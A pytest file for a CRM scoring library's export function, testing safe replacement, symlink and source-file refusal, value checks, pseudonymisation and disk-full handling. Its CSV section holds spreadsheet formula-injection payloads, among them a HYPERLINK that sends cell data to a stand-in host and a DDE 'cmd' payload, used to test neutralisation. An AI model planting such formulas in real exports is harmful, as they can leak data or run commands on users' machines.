"""scores export against hostile targets: it overwrites nothing it was not told to.

Each case of issue 22 ("Exports that never harm", "Ids that are personal") and
issue 21 (the source's own files, impossible CLV bounds), on CSV, Parquet and
DuckDB targets; PostgreSQL in test_export_hostile_postgres.py.
"""

from __future__ import annotations

import csv
import errno
import hashlib
import os
import stat
import subprocess
import sys
import textwrap
import warnings
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import crmstats
from crmstats import CRMStatsError, DataError
from crmstats.exceptions import DataWarning
from crmstats.scores import export, export_scores
from tests.scores.test_export import _scores

FILES = ["csv", "parquet"]


def _digest(path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _one_line(exc: BaseException) -> str:
    text = str(exc)
    assert "\n" not in text and "Traceback" not in text, text
    return text


def _read(path):
    return pd.read_parquet(path) if path.suffix == ".parquet" else pd.read_csv(path)


# ----------------------------------------------------------------------------- files: replace


@pytest.mark.parametrize("suffix", FILES)
def test_an_existing_file_is_replaced_only_with_replace(tmp_path, suffix):
    target = tmp_path / f"scores.{suffix}"
    export_scores(_scores(20), target, run_id="old")
    before = _digest(target)
    with pytest.raises(CRMStatsError, match="exists; give --replace") as err:
        export_scores(_scores(30), target, run_id="new")
    _one_line(err.value)
    assert _digest(target) == before
    export_scores(_scores(30), target, run_id="new", replace=True)
    assert set(_read(target)["run_id"]) == {"new"} and len(_read(target)) == 30
    assert sorted(p.name for p in tmp_path.iterdir()) == [target.name]  # no temporary left


@pytest.mark.parametrize("suffix", FILES)
def test_a_new_file_is_0600_and_a_replaced_file_keeps_its_mode(tmp_path, suffix):
    old_umask = os.umask(0o022)
    try:
        target = tmp_path / f"scores.{suffix}"
        export_scores(_scores(5), target)
        assert stat.S_IMODE(target.stat().st_mode) == 0o600
        for mode in (0o600, 0o640, 0o644):
            target.chmod(mode)
            export_scores(_scores(5), target, replace=True)
            assert stat.S_IMODE(target.stat().st_mode) == mode
    finally:
        os.umask(old_umask)


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file to another user")
def test_root_replacing_another_users_file_keeps_its_owner(tmp_path):
    target = tmp_path / "scores.csv"
    export_scores(_scores(5), target)
    os.chown(target, 4321, 4321)
    export_scores(_scores(6), target, replace=True)
    assert (target.stat().st_uid, target.stat().st_gid) == (4321, 4321)


def test_a_symlinked_target_is_written_through_and_keeps_the_link(tmp_path):
    real = tmp_path / "real.csv"
    export_scores(_scores(5), real, run_id="old")
    real.chmod(0o640)
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    export_scores(_scores(7), link, run_id="new", replace=True)
    assert link.is_symlink() and len(pd.read_csv(real)) == 7
    assert stat.S_IMODE(real.stat().st_mode) == 0o640


def test_a_link_to_a_missing_file_is_refused(tmp_path):
    link = tmp_path / "scores.csv"
    link.symlink_to(tmp_path / "elsewhere" / "planted.csv")
    (tmp_path / "elsewhere").mkdir()
    with pytest.raises(CRMStatsError, match="link to a missing file"):
        export_scores(_scores(5), link, replace=True)
    assert list((tmp_path / "elsewhere").iterdir()) == []


@pytest.mark.parametrize("suffix", FILES)
def test_bad_file_targets_are_one_line(tmp_path, suffix):
    folder = tmp_path / f"scores.{suffix}"
    folder.mkdir()
    with pytest.raises(CRMStatsError, match="is a folder") as err:
        export_scores(_scores(5), folder, replace=True)
    _one_line(err.value)
    with pytest.raises(CRMStatsError, match="does not exist") as err:
        export_scores(_scores(5), tmp_path / "missing" / f"s.{suffix}")
    _one_line(err.value)
    assert not (tmp_path / "missing").exists()
    with pytest.raises(CRMStatsError, match="not a folder"):
        (tmp_path / "file").write_text("x")
        export_scores(_scores(5), tmp_path / "file" / f"s.{suffix}")


# ----------------------------------------------------------------------------- the source's files


@pytest.fixture(scope="module")
def folder_source(tmp_path_factory):
    """A folder source (Parquet table files) and a crmstats.yml source over CSV files."""
    import yaml

    base = tmp_path_factory.mktemp("sources")
    crm = crmstats.load_crm("demo:n_contacts=300,seed=2")
    folder = base / "folder"
    crmstats.export_crm(crm, folder)
    mapped = base / "mapped"
    mapped.mkdir()
    crm.transactions.to_csv(mapped / "orders.csv", index=False)
    crm.contacts.to_csv(mapped / "people.csv", index=False)
    (mapped / "crmstats.yml").write_text(yaml.safe_dump(
        {"name": "ACME", "tables": {"transactions": {"file": "orders.csv"},
                                    "contacts": {"file": "people.csv"}}}))
    return folder, mapped


@pytest.mark.parametrize("which", ["folder", "source file", "hard link", "symlink"])
def test_the_sources_own_files_are_never_overwritten(folder_source, tmp_path, which):
    folder, mapped = folder_source
    if which == "folder":
        source, target = str(folder), folder / "transactions.parquet"
    elif which == "source file":
        source, target = str(mapped / "crmstats.yml"), mapped / "orders.csv"
    else:
        source, target = str(mapped / "crmstats.yml"), tmp_path / "scores.csv"
        if which == "hard link":
            os.link(mapped / "people.csv", target)
        else:
            target.symlink_to(mapped / "people.csv")
    before = _digest(target)
    with pytest.raises(CRMStatsError, match="is a file the source reads") as err:
        export_scores(_scores(5), target, source=source, replace=True)
    _one_line(err.value)
    assert _digest(target) == before


def test_export_customer_scores_refuses_the_source_file_before_computing(folder_source,
                                                                         monkeypatch):
    from crmstats.scores import customer360, export_customer_scores

    folder, _ = folder_source
    monkeypatch.setattr(customer360, "customer_360",
                        lambda *a, **k: pytest.fail("computed before refusing"))
    before = _digest(folder / "contacts.parquet")
    with pytest.raises(CRMStatsError, match="source reads"):
        export_customer_scores(str(folder), folder / "contacts.parquet", replace=True)
    assert _digest(folder / "contacts.parquet") == before


# ----------------------------------------------------------------------------- CSV formulas

HOSTILE = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "ordinary", "a;=1+1", "-5", "+3.25",
           "1e5", "'=already quoted"]


def _hostile_frame() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame({
        "channel": HOSTILE,
        "segment": pd.Categorical(["=2*3"] * n),
        "clv": np.linspace(0, 10, n),
        "revenue": np.linspace(-50.5, 10, n),  # net revenue may be negative: a number
        "=evil()": range(n),
    }, index=pd.Index([f"C{i}" for i in range(n - 1)] + ["=1+2"], name="id"))


def _cells(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(tmp_path):
    frame = _hostile_frame()
    target = tmp_path / "s.csv"
    export_scores(frame, target, run_id="r1")
    rows = _cells(target)
    header, body = rows[0], rows[1:]
    assert header == ["run_id", "id", "channel", "segment", "clv", "revenue", "'=evil()"]
    channel = [r[2] for r in body]
    for raw, written in zip(HOSTILE, channel, strict=True):
        evaluates = raw.startswith(("=", "+", "-", "@", "\t", "\r")) and raw not in ("-5",
                                                                                       "+3.25")
        assert written == ("'" + raw if evaluates else raw), raw
    assert {r[3] for r in body} == {"'=2*3"}
    assert body[-1][1] == "'=1+2"
    for row in body:  # every written cell: no cell a spreadsheet would evaluate
        for cell in row[1:4]:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) or cell == "+3.25"
    # numbers stay numbers: negative revenue is written as a number, unquoted
    text = target.read_text()
    assert "-50.5," in text and '"-50.5"' not in text
    back = pd.read_csv(target)
    np.testing.assert_allclose(back["revenue"], frame["revenue"])
    assert back["revenue"].dtype == float
    # the caller's frame is untouched
    assert frame["channel"].tolist() == HOSTILE


def test_a_hostile_run_id_is_neutralised_too(tmp_path):
    export_scores(_scores(3), tmp_path / "s.csv", run_id="=WEBSERVICE(\"http://x\")")
    assert {r[0] for r in _cells(tmp_path / "s.csv")[1:]} == {"'=WEBSERVICE(\"http://x\")"}


def test_raw_writes_the_cells_as_they_are(tmp_path):
    frame = _hostile_frame()
    export_scores(frame, tmp_path / "s.csv", run_id="r1", raw=True)
    rows = _cells(tmp_path / "s.csv")
    assert [r[2] for r in rows[1:]] == HOSTILE and rows[0][-1] == "=evil()"


def test_parquet_keeps_text_as_it_is(tmp_path):
    export_scores(_hostile_frame(), tmp_path / "s.parquet")
    assert pd.read_parquet(tmp_path / "s.parquet")["channel"].tolist() == HOSTILE


# ----------------------------------------------------------------------------- impossible values


@pytest.mark.parametrize("change, column, what", [
    ({"clv_lower": -333_454.0}, "clv_lower", "is negative"),
    ({"clv": -1.0, "clv_lower": -2.0}, "clv", "is negative"),
    ({"clv_lower": 1e6}, "clv_lower", "above 'clv'"),
    ({"clv_upper": 0.5, "clv_lower": 0.1, "clv": 1.0}, "clv", "above 'clv_upper'"),
    ({"p_alive": 1.2}, "p_alive", "outside"),
    ({"clv": np.inf}, "clv", "infinite"),
])
@pytest.mark.parametrize("suffix", FILES)
def test_impossible_values_are_refused_naming_column_and_ids(tmp_path, suffix, change, column,
                                                             what):
    frame = _scores(40)
    frame["clv"] = 10.0
    frame["clv_lower"], frame["clv_upper"], frame["p_alive"] = 5.0, 20.0, 0.5
    bad_ids = ["C0000003", "C0000017"]
    for col, value in change.items():
        frame.loc[bad_ids, col] = value
    target = tmp_path / f"s.{suffix}"
    with pytest.raises(DataError, match=what) as err:
        export_scores(frame, target)
    message = _one_line(err.value)
    assert repr(column) in message and "C0000003, C0000017" in message
    assert "2 of 40 rows" in message and err.value.column == column
    assert not target.exists()


def test_a_missing_bound_is_not_an_impossible_value(tmp_path):
    frame = _scores(10).assign(clv_lower=np.nan, clv_upper=np.nan)
    export_scores(frame, tmp_path / "s.parquet")
    assert len(pd.read_parquet(tmp_path / "s.parquet")) == 10


# ----------------------------------------------------------------------------- personal ids


def test_ids_that_are_emails_or_phones_warn_and_can_be_pseudonymised(tmp_path, monkeypatch):
    monkeypatch.setenv("CRMSTATS_PSEUDONYM_KEY", "k" * 32)
    frame = _scores(6)
    ids = ["ann@example.com", "+44 20 7946 0958", "C0000002", "bob@example.org", "C4", "C5"]
    frame.index = pd.Index(ids, name="id")
    with pytest.warns(DataWarning, match=r"3 of 6 values of column 'id' .*e-mail|email"):
        export_scores(frame, tmp_path / "raw.parquet")
    assert pd.read_parquet(tmp_path / "raw.parquet")["id"].tolist() == ids  # raw, as warned
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        export_scores(frame, tmp_path / "p.csv", pseudonymize=True)
    out = pd.read_csv(tmp_path / "p.csv")
    assert "id" not in out.columns
    assert out["id_pseudonym"].tolist() == crmstats.privacy.pseudonymize(ids).tolist()
    text = (tmp_path / "p.csv").read_text()
    assert "@example" not in text and "7946" not in text


def test_ordinary_ids_do_not_warn(tmp_path):
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        export_scores(_scores(50), tmp_path / "s.parquet")


# ----------------------------------------------------------------------------- I/O failures

STEPS = ["mkstemp", "write", "fsync", "chmod", "replace"]


@pytest.mark.parametrize("suffix", FILES)
@pytest.mark.parametrize("step", STEPS)
@pytest.mark.parametrize("cleanup_fails", [False, True])
def test_a_full_disk_at_each_step_is_one_line_and_keeps_the_old_file(tmp_path, monkeypatch,
                                                                      suffix, step,
                                                                      cleanup_fails):
    target = tmp_path / f"scores.{suffix}"
    export_scores(_scores(20), target, run_id="old")
    target.chmod(0o640)
    before = _digest(target)

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    if step == "mkstemp":
        monkeypatch.setattr(export.tempfile, "mkstemp", full)
    elif step == "write":
        monkeypatch.setattr(pd.DataFrame, "to_parquet" if suffix == "parquet" else "to_csv",
                            lambda self, handle, **k: (handle.write(b"x" if "b" in getattr(
                                handle, "mode", "") else "x"), full()))
    else:
        monkeypatch.setattr(export.os, step, full)
    if cleanup_fails:
        monkeypatch.setattr(export.os, "unlink", lambda *a, **k: full())
    with pytest.raises(CRMStatsError, match="No space left on device") as err:
        export_scores(_scores(50), target, run_id="new", replace=True)
    assert "the old file is unchanged" in _one_line(err.value)
    monkeypatch.undo()
    assert _digest(target) == before and stat.S_IMODE(target.stat().st_mode) == 0o640
    left = sorted(p.name for p in tmp_path.iterdir())
    assert left[-1] == target.name and (cleanup_fails or left == [target.name])


def test_a_full_disk_on_a_new_file_leaves_nothing(tmp_path, monkeypatch):
    monkeypatch.setattr(export.os, "link", lambda *a: (_ for _ in ()).throw(
        OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))))
    with pytest.raises(CRMStatsError, match="nothing written"):
        export_scores(_scores(5), tmp_path / "s.csv")
    assert list(tmp_path.iterdir()) == []


_RUNNER = textwrap.dedent("""
    import json, resource, signal, sys
    import numpy as np, pandas as pd
    from crmstats import CRMStatsError
    from crmstats.scores import export_scores
    target, kind, limit = sys.argv[1], sys.argv[2], int(sys.argv[3])
    rng = np.random.default_rng(1)
    n = 300_000
    frame = pd.DataFrame({"clv": rng.gamma(2.0, 30.0, n), "segment": rng.choice(["a", "b"], n)},
                         index=pd.Index([f"C{i:07d}" for i in range(n)], name="id"))
    if limit:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
    try:
        export_scores(frame, target, table="scores", run_id="new", replace=True)
        print(json.dumps({"ok": True}))
    except CRMStatsError as exc:
        print(json.dumps({"ok": False, "error": str(exc)}))
""")


def _run_export_in_child(target, kind, limit):
    import json

    done = subprocess.run([sys.executable, "-c", _RUNNER, str(target), kind, str(limit)],
                          capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr, done.stderr
    return json.loads(done.stdout.strip().splitlines()[-1])


@pytest.mark.parametrize("kind", ["csv", "parquet", "duckdb"])
def test_a_real_write_past_the_file_size_limit_is_one_line(tmp_path, kind):
    """A real failing write (RLIMIT_FSIZE: EFBIG, as a full disk), also for root."""
    target = tmp_path / f"scores.{kind}"
    export_scores(_scores(100), target, table="scores", run_id="old")
    size = target.stat().st_size
    result = _run_export_in_child(target, kind, size + 200_000)
    assert result["ok"] is False and "\n" not in result["error"], result
    assert ("unchanged" in result["error"]), result
    if kind == "duckdb":
        import duckdb

        with duckdb.connect(str(target)) as con:
            assert con.execute("SELECT count(*), min(run_id), max(run_id) FROM scores"
                               ).fetchone() == (100, "old", "old")
    else:
        got = _read(target)
        assert len(got) == 100 and set(got["run_id"]) == {"old"}


# ----------------------------------------------------------------------------- DuckDB tables

duckdb = pytest.importorskip("duckdb")


def _db_rows(db, sql, read_only=False):
    with duckdb.connect(str(db), read_only=read_only) as con:
        return con.execute(sql).fetchall()


def test_a_new_duckdb_file_is_0600(tmp_path):
    old_umask = os.umask(0o022)
    try:
        export_scores(_scores(5), tmp_path / "new.duckdb", table="scores")
    finally:
        os.umask(old_umask)
    assert stat.S_IMODE((tmp_path / "new.duckdb").stat().st_mode) == 0o600


def test_a_users_duckdb_table_is_replaced_only_with_replace(tmp_path):
    db = tmp_path / "crm.duckdb"
    with duckdb.connect(str(db)) as con:
        con.execute("CREATE TABLE y AS SELECT 42 AS answer")
    with pytest.raises(CRMStatsError, match="not a crmstats scores table; give --replace") as e:
        export_scores(_scores(5), db, table="y")
    assert "'y'" in _one_line(e.value)
    assert _db_rows(db, "SELECT * FROM y") == [(42,)]
    export_scores(_scores(5), db, table="y", replace=True, run_id="r")
    assert _db_rows(db, "SELECT count(*), min(run_id) FROM y") == [(5, "r")]


def test_a_scores_table_is_recognised_by_its_marker_or_its_columns(tmp_path):
    db = tmp_path / "crm.duckdb"
    export_scores(_scores(5), db, table="scores", run_id="r1")
    assert _db_rows(db, "SELECT comment FROM duckdb_tables() WHERE table_name = 'scores'") == [
        (export.MARKER,)]
    export_scores(_scores(6), db, table="scores", run_id="r2")  # ours: replaced without a flag
    assert _db_rows(db, "SELECT count(*), min(run_id) FROM scores") == [(6, "r2")]
    with duckdb.connect(str(db)) as con:  # a table written before the marker existed
        con.execute("CREATE TABLE legacy AS SELECT 'r0' AS run_id, 'C1' AS id, "
                    "DATE '2025-01-01' AS as_of")
    export_scores(_scores(7), db, table="legacy", run_id="r3")
    assert _db_rows(db, "SELECT count(*) FROM legacy") == [(7,)]


@pytest.mark.parametrize("replace", [False, True])
def test_a_table_a_view_depends_on_is_never_replaced(tmp_path, replace):
    db = tmp_path / "crm.duckdb"
    export_scores(_scores(5), db, table="scores", run_id="old")
    with duckdb.connect(str(db)) as con:
        con.execute("CREATE TABLE y AS SELECT 1 AS k")
        con.execute("CREATE VIEW top_customers AS SELECT id, clv FROM scores WHERE clv > 0")
        con.execute("CREATE VIEW about_y AS SELECT * FROM y")
    for table, view in (("scores", "top_customers"), ("y", "about_y")):
        with pytest.raises(CRMStatsError, match=f"view.*'{view}' depend on it") as err:
            export_scores(_scores(9), db, table=table, run_id="new", replace=replace)
        assert f"'{table}'" in _one_line(err.value)
    assert _db_rows(db, "SELECT count(*), min(run_id) FROM scores") == [(5, "old")]
    assert _db_rows(db, "SELECT count(*) FROM top_customers")[0][0] <= 5
    assert {r[0] for r in _db_rows(db, "SHOW TABLES")} == {"scores", "y", "top_customers",
                                                           "about_y"}


def test_a_view_naming_the_table_in_text_only_does_not_block(tmp_path):
    db = tmp_path / "crm.duckdb"
    export_scores(_scores(5), db, table="scores", run_id="old")
    with duckdb.connect(str(db)) as con:
        con.execute("CREATE TABLE other AS SELECT 'scores' AS label")
        con.execute("CREATE VIEW v AS SELECT label AS scores FROM other")
    export_scores(_scores(6), db, table="scores", run_id="new")
    assert _db_rows(db, "SELECT count(*) FROM scores") == [(6,)]


def test_a_foreign_key_target_and_a_view_target_are_refused(tmp_path):
    db = tmp_path / "crm.duckdb"
    with duckdb.connect(str(db)) as con:
        con.execute("CREATE TABLE parent (id INTEGER PRIMARY KEY)")
        con.execute("CREATE TABLE child (pid INTEGER REFERENCES parent(id))")
        con.execute("CREATE VIEW shown AS SELECT 1 AS x")
    with pytest.raises(CRMStatsError, match="'child' refer to it by a foreign key"):
        export_scores(_scores(5), db, table="parent", replace=True)
    with pytest.raises(CRMStatsError, match="is a view"):
        export_scores(_scores(5), db, table="shown", replace=True)
    assert _db_rows(db, "SELECT * FROM shown") == [(1,)]


def test_the_sources_own_duckdb_tables_are_never_replaced(tmp_path):
    from crmstats.scores import export_customer_scores

    db = tmp_path / "crm.duckdb"
    # (seed 3: on 300 contacts, ~30 customers, the demo's fits converge for some seeds only)
    crm = crmstats.load_crm("demo:n_contacts=300,seed=3")
    with duckdb.connect(str(db)) as con:
        for name, frame in crm.tables().items():
            con.register("f", frame)
            con.execute(f"CREATE TABLE {name} AS SELECT * FROM f")
            con.unregister("f")
    n = _db_rows(db, "SELECT count(*) FROM transactions")[0][0]
    url = f"duckdb:///{db}"
    with pytest.raises(CRMStatsError, match="table the source reads") as err:
        export_scores(_scores(5), f"duckdb://{db}", table="transactions", replace=True,
                      source=url)
    _one_line(err.value)
    with pytest.raises(CRMStatsError, match="table the source reads"):
        export_customer_scores(url, db, table="TRANSACTIONS", replace=True, n_bootstrap=0)
    assert _db_rows(db, "SELECT count(*) FROM transactions") == [(n,)]
    # a scores table in the source's own file is fine: the export closes its own read-only
    # connection to the source before writing
    done = export_customer_scores(url, db, table="scores", n_bootstrap=0, run_id="r")
    assert _db_rows(db, "SELECT count(*), min(run_id) FROM scores") == [(done.rows, "r")]
    # a caller's source still open read-only in this process: one line saying so
    source = crmstats.load_crm(url)
    with pytest.raises(CRMStatsError, match="open read-only in this process") as err:
        export_scores(_scores(5), db, table="scores", source=source)
    _one_line(err.value)
    assert len(source.transactions.execute()) == n  # the caller's connection was left open


STEPS_DB = ["CREATE", "COMMENT", "DROP", "ALTER", "COMMIT"]


# after a commit the new table is in place: a failure then is no failure of the write
@pytest.mark.parametrize("step, when", [(s, w) for s in STEPS_DB for w in ("before", "after")
                                        if (s, w) != ("COMMIT", "after")])
def test_a_duckdb_failure_at_each_step_is_one_line_and_keeps_the_table(tmp_path, monkeypatch,
                                                                        step, when):
    db = str(tmp_path / "crm.duckdb")
    export_scores(_scores(100), db, table="scores", run_id="good")
    real = export._run

    def failing(con, sql, params=None):
        if when == "after":
            real(con, sql, params)
        if sql.startswith(step):
            raise duckdb.IOException(f"injected: No space left on device at {step}")

    monkeypatch.setattr(export, "_run", failing)
    with pytest.raises(CRMStatsError, match="old table is unchanged") as err:
        export_scores(_scores(300), db, table="scores", run_id="bad")
    _one_line(err.value)
    assert _db_rows(db, "SELECT count(*), min(run_id) FROM scores") == [(100, "good")]
    assert {r[0] for r in _db_rows(db, "SHOW TABLES")} == {"scores"}


def test_a_failing_rollback_and_close_raise_nothing_more(tmp_path, monkeypatch):
    db = str(tmp_path / "crm.duckdb")
    export_scores(_scores(10), db, table="scores", run_id="good")
    real_connect = export._connect_duckdb

    class Broken:
        def __init__(self, con):
            self.con = con

        def execute(self, sql, *args):
            if sql.startswith(("ROLLBACK", "DROP")):
                raise duckdb.IOException("injected: disk gone")
            return self.con.execute(sql, *args)

        def register(self, *a):
            return self.con.register(*a)

        def unregister(self, *a):
            raise duckdb.IOException("injected: connection invalidated")

        def close(self):
            self.con.close()
            raise duckdb.IOException("injected: cannot close")

    monkeypatch.setattr(export, "_connect_duckdb", lambda *a: Broken(real_connect(*a)))
    with pytest.raises(CRMStatsError, match="disk gone") as err:
        export_scores(_scores(30), db, table="scores", run_id="bad")
    _one_line(err.value)
    monkeypatch.undo()
    assert _db_rows(db, "SELECT count(*), min(run_id) FROM scores") == [(10, "good")]


_HOLDER = textwrap.dedent("""
    import sys, duckdb
    con = duckdb.connect(sys.argv[1], read_only=True)  # as a study of a book build reads it
    print("holding", flush=True)
    sys.stdin.read()
""")


@pytest.fixture
def held_db(tmp_path):
    db = tmp_path / "crm.duckdb"
    export_scores(_scores(10), db, table="scores", run_id="old")
    holder = subprocess.Popen([sys.executable, "-c", _HOLDER, str(db)], stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, text=True)
    assert holder.stdout.readline().strip() == "holding"
    yield db, holder
    if holder.poll() is None:
        holder.stdin.close()
        holder.wait(timeout=60)


def test_a_locked_duckdb_file_is_waited_for(held_db, monkeypatch):
    db, holder = held_db
    waits = []

    def wait(seconds):  # the reader finishes while the export waits
        waits.append(seconds)
        if holder.poll() is None:
            holder.stdin.close()
            holder.wait(timeout=60)

    monkeypatch.setattr(export, "_wait", wait)
    export_scores(_scores(20), db, table="scores", run_id="new", lock_timeout=600)
    assert waits, "the export never met the lock"
    assert _db_rows(db, "SELECT count(*), min(run_id) FROM scores") == [(20, "new")]


def test_a_duckdb_file_locked_past_the_timeout_is_one_line(held_db):
    db, _ = held_db
    with pytest.raises(CRMStatsError, match="is in use by process") as err:
        export_scores(_scores(20), db, table="scores", run_id="new", lock_timeout=0.2)
    message = _one_line(err.value)
    assert "--lock-timeout" in message and sys.executable not in message
    assert _db_rows(db, "SELECT count(*), min(run_id) FROM scores", read_only=True) == [
        (10, "old")]


_IN_READ_ONLY_FS = textwrap.dedent("""
    import json, subprocess, sys
    from pathlib import Path
    from crmstats import CRMStatsError
    from crmstats.scores import export_scores
    from tests.scores.test_export import _scores
    folder = Path(sys.argv[1])
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4m", "tmpfs", str(folder)], check=True)
    results = {}
    for suffix in ("csv", "parquet"):
        export_scores(_scores(20), folder / f"s.{suffix}", run_id="old")
    subprocess.run(["mount", "-o", "remount,ro", str(folder)], check=True)
    for suffix in ("csv", "parquet"):
        try:
            export_scores(_scores(30), folder / f"s.{suffix}", run_id="new", replace=True)
            results[suffix] = "written"
        except CRMStatsError as exc:
            results[suffix] = str(exc)
    results["left"] = sorted(p.name for p in folder.iterdir())
    import pandas as pd
    results["kept"] = sorted(set(pd.read_csv(folder / "s.csv")["run_id"])
                             | set(pd.read_parquet(folder / "s.parquet")["run_id"]))
    print(json.dumps(results))
""")


def _private_mounts() -> bool:
    if os.geteuid() != 0 or sys.platform != "linux":
        return False
    try:
        return subprocess.run(["unshare", "-m", "true"], capture_output=True,
                              timeout=30).returncode == 0
    except (OSError, subprocess.SubprocessError):
        return False


def _in_private_mount(script: str, folder) -> dict:
    """Run ``script`` (which mounts a tmpfs on ``folder``) in a private mount namespace."""
    import json

    folder.mkdir()
    root = Path(__file__).resolve().parents[2]  # the repository: the script imports tests.*
    done = subprocess.run(["unshare", "-m", "--propagation", "private", sys.executable, "-c",
                           script, str(folder)], capture_output=True, text=True, timeout=600,
                          cwd=root)
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    return json.loads(done.stdout.strip().splitlines()[-1])


def test_a_read_only_folder_is_one_line_and_keeps_the_old_file(tmp_path):
    """Not root: chmod the folder; root (chmod does not stop it): a read-only tmpfs mounted
    in a private mount namespace (unshare -m), so nothing outside the test sees it."""
    if os.geteuid() != 0:
        for suffix in FILES:
            export_scores(_scores(20), tmp_path / f"s.{suffix}", run_id="old")
        tmp_path.chmod(0o500)
        try:
            for suffix in FILES:
                with pytest.raises(CRMStatsError, match="Permission denied") as err:
                    export_scores(_scores(30), tmp_path / f"s.{suffix}", replace=True)
                assert "the old file is unchanged" in _one_line(err.value)
        finally:
            tmp_path.chmod(0o700)
        for suffix in FILES:
            assert set(_read(tmp_path / f"s.{suffix}")["run_id"]) == {"old"}
        return
    if not _private_mounts():
        pytest.skip("root without private mount namespaces: no way to make a folder read-only")
    folder = tmp_path / "ro"
    results = _in_private_mount(_IN_READ_ONLY_FS, folder)
    for suffix in FILES:
        assert "Read-only file system" in results[suffix], results
        assert "the old file is unchanged" in results[suffix] and "\n" not in results[suffix]
    assert results["left"] == ["s.csv", "s.parquet"]  # no temporary file, old files there
    assert results["kept"] == ["old"]
    assert list(folder.iterdir()) == []  # the tmpfs lived in the child's namespace only


_ON_A_FULL_DISK = textwrap.dedent("""
    import json, subprocess, sys
    from pathlib import Path
    import duckdb, numpy as np, pandas as pd
    from crmstats import CRMStatsError
    from crmstats.scores import export_scores
    from tests.scores.test_export import _scores
    folder = Path(sys.argv[1])
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=3m", "tmpfs", str(folder)], check=True)
    rng = np.random.default_rng(1)
    n = 400_000
    big = pd.DataFrame({"clv": rng.gamma(2.0, 30.0, n)},
                       index=pd.Index([f"C{i:07d}" for i in range(n)], name="id"))
    results = {}
    for kind in ("csv", "parquet", "duckdb"):
        target = folder / f"s.{kind}"
        export_scores(_scores(20), target, table="scores", run_id="old")
        try:
            export_scores(big, target, table="scores", run_id="new", replace=True)
            results[kind] = "written"
        except CRMStatsError as exc:
            results[kind] = str(exc)
        if kind == "duckdb":
            with duckdb.connect(str(target), read_only=True) as con:
                kept = con.execute("SELECT DISTINCT run_id FROM scores").fetchall()
            results[kind + " kept"] = [r[0] for r in kept]
        else:
            frame = pd.read_csv(target) if kind == "csv" else pd.read_parquet(target)
            results[kind + " kept"] = sorted(set(frame["run_id"]))
        target.unlink()
    results["left"] = sorted(p.name for p in folder.iterdir())
    print(json.dumps(results))
""")


def test_a_real_full_disk_is_one_line_and_keeps_the_old_data(tmp_path):
    """ENOSPC for real: a 3 MB tmpfs in a private mount namespace (root only, e.g. CI)."""
    if not _private_mounts():
        pytest.skip("needs root and unshare -m (the injected and RLIMIT_FSIZE cases run)")
    results = _in_private_mount(_ON_A_FULL_DISK, tmp_path / "small")
    for kind in ("csv", "parquet", "duckdb"):
        assert "No space left on device" in results[kind], results
        assert "unchanged" in results[kind] and "\n" not in results[kind]
        assert results[kind + " kept"] == ["old"], results
    assert results["left"] == [], results  # no temporary file left on the full disk
